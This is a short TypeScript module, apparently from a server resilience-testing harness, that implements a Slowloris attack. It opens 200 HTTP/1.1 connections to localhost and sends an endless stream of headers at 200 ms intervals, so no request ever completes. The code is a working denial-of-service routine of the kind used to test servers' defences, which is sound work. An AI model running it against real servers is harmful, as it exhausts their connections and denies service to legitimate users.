import { type Attack, CALL } from "./attack.js";

/** HTTP/1.1 headers that never end (Slowloris). */
export const slowHeaders: Attack = {
  name: "slow headers, HTTP/1.1",
  connections: 200,
  protocol: "http/1.1",
  async run(connection) {
    await connection.write(`POST ${CALL} HTTP/1.1\r\nHost: localhost\r\n`);
    for (let i = 0; connection.going; i++) {
      await connection.write(`x-${i}: y\r\n`);
      await connection.wait(200);
    }
  },
};
